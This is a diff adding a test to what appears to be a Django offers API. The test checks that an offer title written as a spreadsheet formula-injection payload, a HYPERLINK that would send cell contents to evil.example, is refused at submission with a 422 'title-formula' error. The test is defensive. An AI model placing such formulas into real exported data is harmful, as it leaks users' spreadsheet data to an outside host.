@@ -112,6 +112,21 @@ def test_a_blocked_submission_names_the_reasons(as_vakwerk: Client) -> None:
     assert Offer.objects.get().state == OfferState.DRAFT
 
 
+def test_a_title_like_a_spreadsheet_formula_is_a_named_problem(as_vakwerk: Client) -> None:
+    """Issue 14, finding 4: refused at admission, named in invalidParams."""
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    created = post(as_vakwerk, "/api/v1/offers", offer_body(title=title))
+    response = post(
+        as_vakwerk, f"/api/v1/offers/{created.json()['id']}/transitions", {"action": "submit"}
+    )
+    assert response.status_code == 422
+    assert response["Content-Type"] == PROBLEM
+    body = response.json()
+    assert body["code"] == "checks-failed"
+    assert [(p["name"], p["code"]) for p in body["invalidParams"]] == [("title", "title-formula")]
+    assert Offer.objects.get().state == OfferState.DRAFT
+
+
 def test_a_provider_can_never_touch_another_providers_offer(
     as_vakwerk: Client, other_client: Client
 ) -> None:
